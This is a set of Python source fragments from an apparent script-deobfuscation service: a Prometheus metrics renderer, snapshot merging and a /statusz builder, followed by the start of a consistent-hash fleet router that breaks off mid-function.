        "repro_service_verify_verdicts_total",
        "counter",
        "Differential semantics-preservation verdicts of verified "
        "requests.",
        [
            ({"verdict": verdict}, count)
            for verdict, count in sorted(
                (snapshot.get("verify") or {}).items()
            )
        ]
        or [(None, 0)],
    )
    _metric(
        lines,
        "repro_service_workers",
        "gauge",
        "Live worker processes in the fleet.",
        [(None, snapshot.get("workers", 0))],
    )
    _metric(
        lines,
        "repro_service_worker_restarts_total",
        "counter",
        "Worker respawns by cause (crash vs timeout SIGKILL).",
        [
            ({"reason": reason}, count)
            for reason, count in sorted(restarts.items())
        ]
        or [(None, 0)],
    )

    for name in _PIPELINE_COUNTERS:
        _metric(
            lines,
            f"repro_pipeline_{name}_total",
            "counter",
            f"Lifetime pipeline total of {name.replace('_', ' ')}.",
            [(None, pipeline.get(name, 0))],
        )
    phase_totals: Dict[str, float] = {}
    for phase, seconds in (pipeline.get("phase_seconds") or {}).items():
        canonical = canonical_phase_name(str(phase))
        phase_totals[canonical] = phase_totals.get(canonical, 0.0) + float(
            seconds
        )
    _metric(
        lines,
        "repro_pipeline_phase_seconds_total",
        "counter",
        "Lifetime wall-clock seconds spent per pipeline phase.",
        [
            ({"phase": phase}, round(seconds, 6))
            for phase, seconds in sorted(phase_totals.items())
        ]
        or [(None, 0)],
    )
    _metric(
        lines,
        "repro_pipeline_recovery_outcomes_total",
        "counter",
        "Recoverable pieces by outcome reason.",
        [
            ({"reason": reason}, count)
            for reason, count in sorted(
                (pipeline.get("recovery_outcomes") or {}).items()
            )
        ]
        or [(None, 0)],
    )
    _metric(
        lines,
        "repro_pipeline_unwrap_kinds_total",
        "counter",
        "Multi-layer unwraps by invoker kind.",
        [
            ({"kind": kind}, count)
            for kind, count in sorted(
                (pipeline.get("unwrap_kinds") or {}).items()
            )
        ]
        or [(None, 0)],
    )
    _metric(
        lines,
        "repro_pipeline_techniques_total",
        "counter",
        "Samples exhibiting each recovered obfuscation technique "
        "(Table I prevalence).",
        [
            ({"technique": technique}, count)
            for technique, count in sorted(
                (pipeline.get("techniques") or {}).items()
            )
        ]
        or [(None, 0)],
    )
    _metric(
        lines,
        "repro_policy_denials_total",
        "counter",
        "Sandbox-policy capability denials by capability kind.",
        [
            ({"capability": capability}, count)
            for capability, count in sorted(
                (pipeline.get("policy_denials") or {}).items()
            )
        ]
        or [(None, 0)],
    )
    _histogram(
        lines,
        "repro_pipeline_duration_seconds",
        "Pipeline execution wall-clock per request (worker runs only; "
        "exemplars name the slowest trace per bucket).",
        snapshot.get("pipeline_duration_histogram") or {},
    )
    _histogram(
        lines,
        "repro_service_request_duration_seconds",
        "Front-door request latency across all answer paths (cache, "
        "coalesced, executed).",
        snapshot.get("request_duration_histogram") or {},
    )
    return "\n".join(lines) + "\n"
