"""Prometheus text rendering of the service's telemetry.

One function, :func:`render_metrics`, turns
:meth:`DeobfuscationService.metrics_snapshot` into the Prometheus
exposition format (text version 0.0.4) — no client library needed,
because everything exported is a monotonic counter or an instant
gauge the service already tracks:

- ``repro_service_*`` — request outcomes, cache behaviour, admission
  queue depth/limit, worker fleet size and restart reasons;
- ``repro_pipeline_*`` — the service-lifetime aggregate of
  :class:`~repro.obs.PipelineStats` over every executed request
  (phase seconds, recovery outcomes, unwrap kinds, technique tags,
  evaluator steps), i.e. PR 2's per-run telemetry re-exported as
  fleet totals;
- ``repro_pipeline_duration_seconds`` / ``repro_service_request_
  duration_seconds`` — proper cumulative-bucket histograms
  (``_bucket``/``_sum``/``_count``) instead of point gauges, each
  non-empty bucket annotated with an OpenMetrics-style exemplar:
  the trace_id of the worst request that landed in it, so the slow
  bucket points straight at a ``repro trace`` waterfall.

Phase labels are the canonical span names of
:mod:`repro.obs.spans`; :func:`canonical_phase_name` asserts no
legacy spelling reaches a render path.

``repro_service_cache_hit_ratio`` counts coalesced joins as hits:
both mean "a pipeline execution was avoided", which is the number a
capacity planner wants.
"""

from typing import Any, Dict, Iterable, List, Optional

from repro.obs.spans import canonical_phase_name

_PIPELINE_COUNTERS = (
    "tokens_rewritten",
    "pieces_recovered",
    "variables_traced",
    "variables_substituted",
    "trace_hits",
    "trace_misses",
    "evaluator_steps",
    "recovery_cache_hits",
    "subtree_memo_hits",
    "subtree_memo_misses",
    "intern_hits",
    "intern_misses",
)


def _escape_label(value: str) -> str:
    return (
        value.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
    )


def _metric(
    lines: List[str],
    name: str,
    kind: str,
    help_text: str,
    samples,
) -> None:
    """Append one metric family: HELP/TYPE plus ``(labels, value)``
    sample pairs (labels may be None)."""
    lines.append(f"# HELP {name} {help_text}")
    lines.append(f"# TYPE {name} {kind}")
    for labels, value in samples:
        if labels:
            rendered = ",".join(
                f'{k}="{_escape_label(str(v))}"'
                for k, v in sorted(labels.items())
            )
            lines.append(f"{name}{{{rendered}}} {value}")
        else:
            lines.append(f"{name} {value}")


def _format_le(bound: float) -> str:
    if bound == float("inf"):
        return "+Inf"
    text = f"{bound:g}"
    return text


def _histogram(
    lines: List[str],
    name: str,
    help_text: str,
    hist: Dict[str, Any],
    labels: Optional[Dict[str, str]] = None,
    emit_header: bool = True,
) -> None:
    """Append one histogram family from a
    :meth:`repro.obs.hist.Histogram.to_dict` payload.

    Non-empty buckets carry an OpenMetrics-style exemplar — the
    trace_id and value of the worst observation that landed in the
    bucket — appended as ``# {trace_id="..."} value``.  *labels* adds
    constant label pairs to every sample (the per-language/per-policy
    request-duration family); *emit_header* lets a caller render
    several labeled series under one HELP/TYPE header.
    """
    bounds = [float(b) for b in hist.get("bounds", ())]
    counts = [int(c) for c in hist.get("counts", ())]
    exemplars = hist.get("exemplars") or {}
    prefix = (
        ",".join(
            f'{k}="{_escape_label(str(v))}"'
            for k, v in sorted((labels or {}).items())
        )
    )
    if emit_header:
        lines.append(f"# HELP {name} {help_text}")
        lines.append(f"# TYPE {name} histogram")
    running = 0
    for index, bound in enumerate(bounds + [float("inf")]):
        bin_count = counts[index] if index < len(counts) else 0
        running += bin_count
        rendered = (
            f'{prefix},le="{_format_le(bound)}"'
            if prefix
            else f'le="{_format_le(bound)}"'
        )
        sample = f"{name}_bucket{{{rendered}}} {running}"
        exemplar = exemplars.get(str(index))
        if exemplar and bin_count:
            sample += (
                f' # {{trace_id="{_escape_label(str(exemplar["trace_id"]))}"}}'
                f' {exemplar["value"]}'
            )
        lines.append(sample)
    suffix = f"{{{prefix}}}" if prefix else ""
    lines.append(
        f"{name}_sum{suffix} {round(float(hist.get('sum', 0.0)), 6)}"
    )
    lines.append(f"{name}_count{suffix} {int(hist.get('count', 0))}")


def _sum_dicts(dicts: Iterable[Dict[str, Any]]) -> Dict[str, Any]:
    """Key-wise sum of numeric values (non-numeric values are kept
    from the first snapshot that has them)."""
    out: Dict[str, Any] = {}
    for mapping in dicts:
        for key, value in (mapping or {}).items():
            if isinstance(value, bool) or not isinstance(
                value, (int, float)
            ):
                out.setdefault(key, value)
            else:
                current = out.get(key, 0)
                out[key] = (
                    current + value
                    if isinstance(current, (int, float))
                    and not isinstance(current, bool)
                    else value
                )
    return out


def merge_snapshots(snapshots: List[Dict[str, Any]]) -> Dict[str, Any]:
    """Fold per-instance :meth:`metrics_snapshot` payloads into one
    fleet-wide snapshot :func:`render_metrics` can render.

    Counters, queue depths/limits, cache and persistence counters,
    worker counts and restarts sum; the pipeline-telemetry aggregate
    merges through :class:`~repro.obs.PipelineStats`; latency
    histograms merge bucket-wise through
    :class:`~repro.obs.Histogram`; ``uptime_seconds`` is the oldest
    instance's; ``draining`` is true only when *every* instance is
    draining (a single draining instance leaves the fleet serving).
    """
    from repro.obs import Histogram, PipelineStats

    snapshots = [snap for snap in snapshots if snap]
    if not snapshots:
        return {}
    merged: Dict[str, Any] = {
        "counters": _sum_dicts(s.get("counters") for s in snapshots),
        "verify": _sum_dicts(s.get("verify") for s in snapshots),
        "languages": _sum_dicts(s.get("languages") for s in snapshots),
        "policies": _sum_dicts(s.get("policies") for s in snapshots),
        "cache": _sum_dicts(s.get("cache") for s in snapshots),
        "persistence": _sum_dicts(
            s.get("persistence") for s in snapshots
        ),
        "worker_restarts": _sum_dicts(
            s.get("worker_restarts") for s in snapshots
        ),
        "queue_depth": sum(s.get("queue_depth", 0) for s in snapshots),
        "queue_limit": sum(s.get("queue_limit", 0) for s in snapshots),
        "workers": sum(s.get("workers", 0) for s in snapshots),
        "pool_size": sum(s.get("pool_size", 0) for s in snapshots),
        "draining": all(s.get("draining") for s in snapshots),
        "uptime_seconds": max(
            s.get("uptime_seconds", 0) for s in snapshots
        ),
        "instances": len(snapshots),
    }
    # warm_start/enabled summed as ints above would be misleading —
    # report "any instance" semantics instead.
    merged["persistence"]["enabled"] = any(
        (s.get("persistence") or {}).get("enabled") for s in snapshots
    )
    merged["persistence"]["warm_start"] = any(
        (s.get("persistence") or {}).get("warm_start") for s in snapshots
    )
    totals = PipelineStats()
    for snap in snapshots:
        pipeline = snap.get("pipeline")
        if isinstance(pipeline, dict):
            partial = PipelineStats.from_dict(pipeline)
            partial.spans = []
            totals.merge(partial)
    merged["pipeline"] = totals.to_dict()
    for name in (
        "pipeline_duration_histogram",
        "request_duration_histogram",
    ):
        combined = Histogram()
        for snap in snapshots:
            payload = snap.get(name)
            if isinstance(payload, dict) and payload:
                combined.merge(Histogram.from_dict(payload))
        merged[name] = combined.to_dict()
    # The labeled request-duration family merges per "language|policy"
    # key, so per-language latency (and its exemplars) survives fleet
    # aggregation instead of collapsing into the unlabeled total.
    by_label: Dict[str, Histogram] = {}
    for snap in snapshots:
        for label, payload in (snap.get("request_duration_by") or {}).items():
            if not isinstance(payload, dict) or not payload:
                continue
            incoming = Histogram.from_dict(payload)
            hist = by_label.get(label)
            if hist is None:
                by_label[label] = incoming
            else:
                hist.merge(incoming)
    merged["request_duration_by"] = {
        label: hist.to_dict() for label, hist in sorted(by_label.items())
    }
    return merged


# Bump when the /statusz payload shape changes (repro top keys on it).
STATUSZ_SCHEMA_VERSION = 1


def build_statusz(
    snapshot: Dict[str, Any],
    window,
    log_events: List[Dict[str, Any]],
    instances: int = 1,
) -> Dict[str, Any]:
    """The ``/statusz`` JSON payload for one snapshot + rolling window.

    Both the single-instance endpoint (:meth:`DeobfuscationService
    .statusz`) and the fleet router build through here, so ``repro
    top`` renders one shape.  *window* is a
    :class:`~repro.obs.window.RollingWindow`; its serialized form is
    embedded as ``window_raw`` so the fleet router can re-merge
    instance windows minute-by-minute.
    """
    from repro.obs import Histogram

    counters = snapshot.get("counters") or {}
    pipeline = snapshot.get("pipeline") or {}
    techniques = sorted(
        (pipeline.get("techniques") or {}).items(),
        key=lambda item: (-item[1], item[0]),
    )[:10]
    latency_by: Dict[str, Any] = {}
    for label, payload in sorted(
        (snapshot.get("request_duration_by") or {}).items()
    ):
        hist = Histogram.from_dict(payload or {"bounds": []})
        language, _, policy = str(label).partition("|")
        latency_by[label] = {
            "language": language,
            "policy": policy,
            "count": hist.count,
            "p50_ms": round(hist.quantile(0.5) * 1000, 3),
            "p95_ms": round(hist.quantile(0.95) * 1000, 3),
        }
    hits = counters.get("cache_hits", 0) + counters.get("coalesced", 0)
    answered = hits + counters.get("executions", 0)
    return {
        "schema_version": STATUSZ_SCHEMA_VERSION,
        "instances": instances,
        "windows": window.snapshot(),
        "window_raw": window.to_dict(),
        "counters": counters,
        "queue": {
            "depth": snapshot.get("queue_depth", 0),
            "limit": snapshot.get("queue_limit", 0),
        },
        "draining": bool(snapshot.get("draining")),
        "pool": {
            "size": snapshot.get("pool_size", 0),
            "workers": snapshot.get("workers", 0),
            "restarts": snapshot.get("worker_restarts") or {},
        },
        "cache": snapshot.get("cache") or {},
        "cache_hit_ratio": (
            round(hits / answered, 4) if answered else 0.0
        ),
        "persistence": snapshot.get("persistence") or {},
        "languages": snapshot.get("languages") or {},
        "policies": snapshot.get("policies") or {},
        "latency_by": latency_by,
        "verify": snapshot.get("verify") or {},
        "techniques_top": [
            {"technique": technique, "count": count}
            for technique, count in techniques
        ],
        "log_tail": list(log_events),
        "uptime_seconds": snapshot.get("uptime_seconds", 0),
    }


def render_metrics(snapshot: Dict[str, Any]) -> str:
    """The ``/metrics`` response body for one snapshot."""
    counters = snapshot.get("counters", {})
    cache = snapshot.get("cache", {})
    restarts = snapshot.get("worker_restarts", {})
    pipeline = snapshot.get("pipeline", {})
    lines: List[str] = []

    _metric(
        lines,
        "repro_service_requests_total",
        "counter",
        "Requests accepted by the service front end.",
        [(None, counters.get("requests", 0))],
    )
    # The same counter broken down by resolved language front end.
    # The unlabeled total above is kept: smoke scripts and dashboards
    # key on it, and a request rejected before options parse (queue
    # full while draining) counts there but under no language.
    _metric(
        lines,
        "repro_service_requests_by_language_total",
        "counter",
        "Admitted requests by resolved language front end.",
        [
            ({"language": language}, count)
            for language, count in sorted(
                (snapshot.get("languages") or {}).items()
            )
        ]
        or [(None, 0)],
    )
    _metric(
        lines,
        "repro_service_requests_by_policy_total",
        "counter",
        "Admitted requests by resolved sandbox-policy preset.",
        [
            ({"policy": policy}, count)
            for policy, count in sorted(
                (snapshot.get("policies") or {}).items()
            )
        ]
        or [(None, 0)],
    )
    _metric(
        lines,
        "repro_service_responses_total",
        "counter",
        "Requests by how they were answered.",
        [
            ({"via": "cache"}, counters.get("cache_hits", 0)),
            ({"via": "coalesced"}, counters.get("coalesced", 0)),
            ({"via": "executed"}, counters.get("executions", 0)),
            ({"via": "rejected"}, counters.get("rejected", 0)),
        ],
    )
    _metric(
        lines,
        "repro_service_errors_total",
        "counter",
        "Executions that ended in a worker error record.",
        [(None, counters.get("errors", 0))],
    )
    _metric(
        lines,
        "repro_service_request_timeouts_total",
        "counter",
        "Requests that gave up waiting for a result.",
        [(None, counters.get("request_timeouts", 0))],
    )
    _metric(
        lines,
        "repro_service_queue_depth",
        "gauge",
        "Admitted pipeline executions currently queued or running.",
        [(None, snapshot.get("queue_depth", 0))],
    )
    _metric(
        lines,
        "repro_service_queue_limit",
        "gauge",
        "Admission queue capacity (429 beyond this).",
        [(None, snapshot.get("queue_limit", 0))],
    )
    _metric(
        lines,
        "repro_service_draining",
        "gauge",
        "1 while the service is draining (rejecting new work).",
        [(None, 1 if snapshot.get("draining") else 0)],
    )
    _metric(
        lines,
        "repro_service_uptime_seconds",
        "gauge",
        "Seconds since the service started.",
        [(None, snapshot.get("uptime_seconds", 0))],
    )

    _metric(
        lines,
        "repro_service_cache_hits_total",
        "counter",
        "Cache lookups answered from a stored result.",
        [(None, cache.get("hits", 0))],
    )
    _metric(
        lines,
        "repro_service_cache_misses_total",
        "counter",
        "Cache lookups that found nothing stored.",
        [(None, cache.get("misses", 0))],
    )
    _metric(
        lines,
        "repro_service_cache_coalesced_total",
        "counter",
        "Lookups that joined an identical in-flight execution.",
        [(None, cache.get("coalesced", 0))],
    )
    _metric(
        lines,
        "repro_service_cache_evictions_total",
        "counter",
        "Entries evicted by the entry or byte budget.",
        [(None, cache.get("evictions", 0))],
    )
    _metric(
        lines,
        "repro_service_cache_entries",
        "gauge",
        "Results currently cached.",
        [(None, cache.get("entries", 0))],
    )
    _metric(
        lines,
        "repro_service_cache_bytes",
        "gauge",
        "Approximate bytes of cached results.",
        [(None, cache.get("bytes", 0))],
    )
    hits = counters.get("cache_hits", 0) + counters.get("coalesced", 0)
    answered = hits + counters.get("executions", 0)
    _metric(
        lines,
        "repro_service_cache_hit_ratio",
        "gauge",
        "Share of answered requests that avoided a pipeline execution "
        "(cache hits + coalesced joins).",
        [(None, round(hits / answered, 6) if answered else 0.0)],
    )

    _metric(
        lines,
        "repro_service_verify_verdicts_total",
        "counter",
        "Differential semantics-preservation verdicts of verified "
        "requests.",
        [
            ({"verdict": verdict}, count)
            for verdict, count in sorted(
                (snapshot.get("verify") or {}).items()
            )
        ]
        or [(None, 0)],
    )
    _metric(
        lines,
        "repro_service_workers",
        "gauge",
        "Live worker processes in the fleet.",
        [(None, snapshot.get("workers", 0))],
    )
    _metric(
        lines,
        "repro_service_pool_size",
        "gauge",
        "Target worker-pool size (moves under autoscaling).",
        [(None, snapshot.get("pool_size", snapshot.get("workers", 0)))],
    )
    _metric(
        lines,
        "repro_service_pool_autoscale_total",
        "counter",
        "Autoscaler pool resizes by direction.",
        [
            ({"direction": "up"}, counters.get("scale_ups", 0)),
            ({"direction": "down"}, counters.get("scale_downs", 0)),
        ],
    )
    _metric(
        lines,
        "repro_service_cache_shards",
        "gauge",
        "Independent result-cache shards (by script-hash range).",
        [(None, cache.get("shards", 1))],
    )
    persistence = snapshot.get("persistence") or {}
    _metric(
        lines,
        "repro_service_cache_warm_start",
        "gauge",
        "1 when this instance warm-started from a persisted cache.",
        [(None, 1 if persistence.get("warm_start") else 0)],
    )
    _metric(
        lines,
        "repro_service_cache_persist_loaded_entries",
        "gauge",
        "Cache entries recovered from snapshot+journal at boot.",
        [(None, persistence.get("loaded_entries", 0))],
    )
    _metric(
        lines,
        "repro_service_cache_persist_skipped_records_total",
        "counter",
        "Corrupt or truncated persisted records skipped during load.",
        [(None, persistence.get("skipped_records", 0))],
    )
    _metric(
        lines,
        "repro_service_cache_journal_dropped_total",
        "counter",
        "Corrupt journal lines dropped during warm-start load "
        "(journal-only share of skipped records: likely data loss).",
        [(None, persistence.get("journal_skipped_records", 0))],
    )
    _metric(
        lines,
        "repro_service_cache_persist_appends_total",
        "counter",
        "Results appended to the cache journal.",
        [(None, persistence.get("appended_records", 0))],
    )
    _metric(
        lines,
        "repro_service_cache_persist_compactions_total",
        "counter",
        "Snapshot compactions (journal folded into the snapshot).",
        [(None, persistence.get("compactions", 0))],
    )
    _metric(
        lines,
        "repro_service_worker_restarts_total",
        "counter",
        "Worker respawns by cause (crash vs timeout SIGKILL).",
        [
            ({"reason": reason}, count)
            for reason, count in sorted(restarts.items())
        ]
        or [(None, 0)],
    )

    for name in _PIPELINE_COUNTERS:
        _metric(
            lines,
            f"repro_pipeline_{name}_total",
            "counter",
            f"Lifetime pipeline total of {name.replace('_', ' ')}.",
            [(None, pipeline.get(name, 0))],
        )
    phase_totals: Dict[str, float] = {}
    for phase, seconds in (pipeline.get("phase_seconds") or {}).items():
        canonical = canonical_phase_name(str(phase))
        phase_totals[canonical] = phase_totals.get(canonical, 0.0) + float(
            seconds
        )
    _metric(
        lines,
        "repro_pipeline_phase_seconds_total",
        "counter",
        "Lifetime wall-clock seconds spent per pipeline phase.",
        [
            ({"phase": phase}, round(seconds, 6))
            for phase, seconds in sorted(phase_totals.items())
        ]
        or [(None, 0)],
    )
    _metric(
        lines,
        "repro_pipeline_recovery_outcomes_total",
        "counter",
        "Recoverable pieces by outcome reason.",
        [
            ({"reason": reason}, count)
            for reason, count in sorted(
                (pipeline.get("recovery_outcomes") or {}).items()
            )
        ]
        or [(None, 0)],
    )
    _metric(
        lines,
        "repro_pipeline_unwrap_kinds_total",
        "counter",
        "Multi-layer unwraps by invoker kind.",
        [
            ({"kind": kind}, count)
            for kind, count in sorted(
                (pipeline.get("unwrap_kinds") or {}).items()
            )
        ]
        or [(None, 0)],
    )
    _metric(
        lines,
        "repro_pipeline_techniques_total",
        "counter",
        "Samples exhibiting each recovered obfuscation technique "
        "(Table I prevalence).",
        [
            ({"technique": technique}, count)
            for technique, count in sorted(
                (pipeline.get("techniques") or {}).items()
            )
        ]
        or [(None, 0)],
    )
    _metric(
        lines,
        "repro_policy_denials_total",
        "counter",
        "Sandbox-policy capability denials by capability kind.",
        [
            ({"capability": capability}, count)
            for capability, count in sorted(
                (pipeline.get("policy_denials") or {}).items()
            )
        ]
        or [(None, 0)],
    )
    _histogram(
        lines,
        "repro_pipeline_duration_seconds",
        "Pipeline execution wall-clock per request (worker runs only; "
        "exemplars name the slowest trace per bucket).",
        snapshot.get("pipeline_duration_histogram") or {},
    )
    _histogram(
        lines,
        "repro_service_request_duration_seconds",
        "Front-door request latency across all answer paths (cache, "
        "coalesced, executed).",
        snapshot.get("request_duration_histogram") or {},
    )
    first = True
    for label, payload in sorted(
        (snapshot.get("request_duration_by") or {}).items()
    ):
        language, _, policy = str(label).partition("|")
        _histogram(
            lines,
            "repro_service_request_duration_by_seconds",
            "Front-door request latency by language front end and "
            "sandbox-policy preset.",
            payload or {},
            labels={"language": language, "policy": policy},
            emit_header=first,
        )
        first = False
    return "\n".join(lines) + "\n"
