"""Multi-instance serving: N service processes behind consistent hashing.

One service instance scales to one box's cores.  ``repro fleet`` runs
N instances (separate processes, separate worker pools, separate
persisted cache directories) behind a thin router that owns three
jobs:

consistent-hash routing
    Requests are routed by the script's SHA-256 (the same normalized
    content hash the result cache keys on, options excluded): a
    :class:`HashRing` with ``replicas`` virtual nodes per instance
    maps every script deterministically to one instance.  The payoff
    is cache *partitioning*, not just load spreading — each script
    always lands on the instance that already holds its result, so
    fleet-wide cache economics match a single shared cache without
    any shared state.

rendezvous fallback
    When the routed instance is unreachable, the router falls back to
    rendezvous (highest-random-weight) hashing over the remaining
    healthy instances — still deterministic (every router picks the
    same fallback for the same script), minimal disruption (only the
    dead instance's keys move), and self-healing (a recovered
    instance takes its keys back, where its persisted cache still
    has the results warm).

aggregation
    ``GET /metrics`` merges every instance's ``/metrics.json``
    snapshot (:func:`repro.service.metrics.merge_snapshots`) into one
    fleet-wide Prometheus exposition plus ``repro_fleet_*`` routing
    counters; ``GET /healthz`` reports per-instance health with the
    instances' own enriched payloads (queue depth, pool size, warm-
    start status); ``GET /statusz`` rebuilds the single-instance
    status payload fleet-wide — snapshots through ``merge_snapshots``,
    rolling windows merged minute-by-minute
    (:func:`repro.obs.window.merge_window_dicts`, so latency exemplar
    trace ids survive), instance log tails interleaved with the
    router's own routing/failover events.

The router is deliberately thin — no pipeline work, no cache — so a
threaded stdlib server is plenty: handler threads spend their time in
``urllib`` waits on the instances.  :class:`FleetManager` owns the
child processes (spawn, port discovery, SIGTERM drain);
:class:`FleetHTTPServer` can also front *pre-existing* instances
given their URLs, which is how the tests drive it.
"""

import hashlib
import json
import os
import signal
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from bisect import bisect_left
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, Dict, Iterable, List, Optional, Tuple

from repro.batch.pool import (
    register_fork_unsafe_fd,
    unregister_fork_unsafe_fd,
)
from repro.obs.log import get_logger, log_tail
from repro.obs.window import merge_window_dicts
from repro.service.cache import normalize_source
from repro.service.metrics import (
    build_statusz,
    merge_snapshots,
    render_metrics,
)

_log = get_logger("service.fleet")

DEFAULT_REPLICAS = 64
_PROBE_INTERVAL = 1.0
_FORWARD_TIMEOUT = 120.0


def script_routing_key(script: str) -> str:
    """The fleet routing key: SHA-256 of the normalized script.

    Options are deliberately excluded (unlike the result-cache key):
    all variants of one script belong on one instance, so its cache
    holds every option combination for that script.
    """
    return hashlib.sha256(
        normalize_source(script).encode("utf-8")
    ).hexdigest()


def _point(label: str) -> int:
    """64-bit ring position for a label."""
    return int.from_bytes(
        hashlib.sha256(label.encode("utf-8")).digest()[:8], "big"
    )


class HashRing:
    """Consistent-hash ring with rendezvous fallback.

    ``replicas`` virtual nodes per instance smooth the key ranges;
    with the default 64 the expected per-instance load imbalance is a
    few percent.  Both :meth:`route` and :meth:`fallback` are pure
    functions of (instances, key), so every router replica makes the
    same decision with no coordination.
    """

    def __init__(
        self, instances: Iterable[str], replicas: int = DEFAULT_REPLICAS
    ):
        self.instances = sorted(set(instances))
        self.replicas = max(1, replicas)
        points: List[Tuple[int, str]] = []
        for instance in self.instances:
            for replica in range(self.replicas):
                points.append(
                    (_point(f"{instance}#{replica}"), instance)
                )
        points.sort()
        self._points = [p for p, _ in points]
        self._owners = [owner for _, owner in points]

    def route(self, key: str) -> str:
        """The ring owner of a hex *key* (first point clockwise)."""
        if not self.instances:
            raise ValueError("empty ring")
        position = int(key[:16], 16)
        index = bisect_left(self._points, position)
        if index >= len(self._points):
            index = 0
        return self._owners[index]

    def fallback(
        self, key: str, healthy: Iterable[str]
    ) -> Optional[str]:
        """Rendezvous choice among *healthy* instances.

        Highest-random-weight: every healthy instance scores
        ``hash(key ‖ instance)`` and the max wins — deterministic, and
        when an instance dies only *its* keys move (each to a
        different survivor, so the fallback load spreads evenly).
        """
        best, best_score = None, -1
        for instance in healthy:
            score = _point(f"{key}@{instance}")
            if score > best_score:
                best, best_score = instance, score
        return best


# --------------------------------------------------------------------------
# router
# --------------------------------------------------------------------------

class FleetState:
    """Shared router state: the ring, health, and routing counters."""

    def __init__(self, instances: List[str], replicas: int = DEFAULT_REPLICAS):
        self.ring = HashRing(instances, replicas=replicas)
        self._lock = threading.Lock()
        self._unhealthy: Dict[str, float] = {}  # instance -> down since
        self.routed: Dict[str, int] = {i: 0 for i in self.ring.instances}
        self.fallbacks = 0
        self.rejected = 0

    @property
    def instances(self) -> List[str]:
        return self.ring.instances

    def healthy_instances(self) -> List[str]:
        with self._lock:
            return [
                i for i in self.ring.instances if i not in self._unhealthy
            ]

    def mark_down(self, instance: str) -> None:
        with self._lock:
            newly_down = instance not in self._unhealthy
            self._unhealthy.setdefault(instance, time.monotonic())
        if newly_down:
            _log.warning(
                "instance marked down; rerouting its keys",
                instance=instance,
            )

    def mark_up(self, instance: str) -> None:
        with self._lock:
            recovered = self._unhealthy.pop(instance, None) is not None
        if recovered:
            _log.info(
                "instance recovered; takes its keys back",
                instance=instance,
            )

    def is_healthy(self, instance: str) -> bool:
        with self._lock:
            return instance not in self._unhealthy

    def pick(self, key: str) -> Optional[Tuple[str, bool]]:
        """(instance, is_fallback) for a routing key; None if all down."""
        primary = self.ring.route(key)
        if self.is_healthy(primary):
            return primary, False
        healthy = self.healthy_instances()
        if not healthy:
            return None
        fallback = self.ring.fallback(key, healthy)
        return (fallback, True) if fallback else None

    def count_routed(self, instance: str, fallback: bool) -> None:
        with self._lock:
            self.routed[instance] = self.routed.get(instance, 0) + 1
            if fallback:
                self.fallbacks += 1

    def count_rejected(self) -> None:
        with self._lock:
            self.rejected += 1

    def counters(self) -> Dict[str, Any]:
        with self._lock:
            return {
                "routed": dict(self.routed),
                "fallbacks": self.fallbacks,
                "rejected": self.rejected,
                "unhealthy": sorted(self._unhealthy),
            }


def _fetch_json(
    url: str, timeout: float = 10.0
) -> Optional[Dict[str, Any]]:
    try:
        with urllib.request.urlopen(url, timeout=timeout) as response:
            return json.loads(response.read())
    except (OSError, ValueError, urllib.error.URLError):
        return None


class _HealthProber(threading.Thread):
    """Background re-check of instances the router marked down."""

    def __init__(self, state: FleetState, interval: float = _PROBE_INTERVAL):
        super().__init__(name="repro-fleet-probe", daemon=True)
        self.state = state
        self.interval = interval
        self.stop_event = threading.Event()

    def run(self) -> None:
        while not self.stop_event.wait(self.interval):
            for instance in self.state.instances:
                if self.state.is_healthy(instance):
                    continue
                health = _fetch_json(instance + "/healthz", timeout=2.0)
                if health and health.get("status") == "ok":
                    self.state.mark_up(instance)


class FleetHTTPServer(ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 128

    def __init__(self, address, state: FleetState, quiet: bool = True):
        self.state = state
        self.quiet = quiet
        super().__init__(address, _RouterHandler)
        # In-process embeddings (tests) run the router next to service
        # instances whose forked workers must not inherit this listener.
        self._listen_fd = self.socket.fileno()
        register_fork_unsafe_fd(self._listen_fd)

    def server_close(self):
        unregister_fork_unsafe_fd(self._listen_fd)
        super().server_close()


class _RouterHandler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    @property
    def state(self) -> FleetState:
        return self.server.state

    def log_message(self, format, *args):  # noqa: A002 — stdlib signature
        if not self.server.quiet:
            sys.stderr.write(
                "%s - - %s\n" % (self.address_string(), format % args)
            )

    def _send_json(self, code, payload, headers=None) -> None:
        body = json.dumps(payload, sort_keys=True).encode("utf-8")
        self._send_bytes(code, body, "application/json", headers)

    def _send_bytes(self, code, body, content_type, headers=None) -> None:
        self.send_response(code)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        for name, value in (headers or {}).items():
            self.send_header(name, value)
        self.end_headers()
        try:
            self.wfile.write(body)
        except (BrokenPipeError, ConnectionResetError):
            pass

    # -- aggregation endpoints ----------------------------------------------

    def do_GET(self) -> None:  # noqa: N802 — stdlib naming
        if self.path == "/healthz":
            self._healthz()
        elif self.path == "/metrics":
            self._metrics()
        elif self.path.startswith("/statusz"):
            self._statusz()
        else:
            self._send_json(404, {"error": f"no such path: {self.path}"})

    def _healthz(self) -> None:
        reports = {}
        healthy = 0
        for instance in self.state.instances:
            health = _fetch_json(instance + "/healthz", timeout=5.0)
            if health is None:
                self.state.mark_down(instance)
                reports[instance] = {"status": "unreachable"}
            else:
                if health.get("status") == "ok":
                    self.state.mark_up(instance)
                    healthy += 1
                reports[instance] = health
        total = len(self.state.instances)
        status = (
            "ok"
            if healthy == total
            else ("degraded" if healthy else "down")
        )
        self._send_json(
            200 if healthy else 503,
            {
                "status": status,
                "healthy_instances": healthy,
                "instances": reports,
                "router": self.state.counters(),
            },
        )

    def _metrics(self) -> None:
        snapshots = []
        for instance in self.state.instances:
            snap = _fetch_json(instance + "/metrics.json", timeout=10.0)
            if snap is None:
                self.state.mark_down(instance)
            else:
                snapshots.append(snap)
        text = render_metrics(merge_snapshots(snapshots))
        counters = self.state.counters()
        lines = [
            "# HELP repro_fleet_instances Configured service instances.",
            "# TYPE repro_fleet_instances gauge",
            f"repro_fleet_instances {len(self.state.instances)}",
            "# HELP repro_fleet_healthy_instances Instances the router "
            "considers routable.",
            "# TYPE repro_fleet_healthy_instances gauge",
            f"repro_fleet_healthy_instances "
            f"{len(self.state.healthy_instances())}",
            "# HELP repro_fleet_routed_total Requests routed per "
            "instance.",
            "# TYPE repro_fleet_routed_total counter",
        ]
        for instance, count in sorted(counters["routed"].items()):
            lines.append(
